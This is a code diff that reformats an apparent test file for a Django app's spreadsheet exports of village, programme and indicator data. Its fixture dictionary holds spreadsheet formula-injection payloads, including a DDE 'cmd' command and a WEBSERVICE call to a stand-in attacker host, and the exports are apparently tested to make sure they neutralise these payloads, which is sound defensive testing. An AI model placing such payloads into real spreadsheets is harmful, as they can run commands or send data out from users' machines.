@@ -30,7 +30,7 @@ HOSTILE = {
     "indicator": "=1+2",
     "agency": "-2+3+cmd|' /C calc'!A0",
     "abbreviation": "=DINSOS()",
-    "village": "=WEBSERVICE(\"http://evil.example/\")",
+    "village": '=WEBSERVICE("http://evil.example/")',
     "district": "@kecamatan",
 }
 
@@ -105,18 +105,18 @@ WORKBOOKS = {
     "village data template": lambda c: _template(c, "village-data", year=2024),
     "programmes template": lambda c: _template(c, "programs", year=2024),
     "bps template": lambda c: _template(c, "bps"),
-    "programmes table export": lambda c: c.get(
-        reverse("programs:program_list"), {"year": 2024, "_export": "xlsx"}
-    ).content,
-    "indicators table export": lambda c: c.get(
-        reverse("programs:indicator_list"), {"year": 2024, "_export": "xlsx"}
-    ).content,
-    "meeting report": lambda c: c.get(
-        reverse("reports:meeting_report_xlsx", args=[2024]), {"quarter": 1}
-    ).content,
-    "targeting check": lambda c: c.get(
-        reverse("reports:targeting"), {"year": 2024, "_export": "xlsx"}
-    ).content,
+    "programmes table export": lambda c: (
+        c.get(reverse("programs:program_list"), {"year": 2024, "_export": "xlsx"}).content
+    ),
+    "indicators table export": lambda c: (
+        c.get(reverse("programs:indicator_list"), {"year": 2024, "_export": "xlsx"}).content
+    ),
+    "meeting report": lambda c: (
+        c.get(reverse("reports:meeting_report_xlsx", args=[2024]), {"quarter": 1}).content
+    ),
+    "targeting check": lambda c: (
+        c.get(reverse("reports:targeting"), {"year": 2024, "_export": "xlsx"}).content
+    ),
 }
 # What each workbook shows of the hostile data, so that the scan is not vacuous.
 SHOWN = {
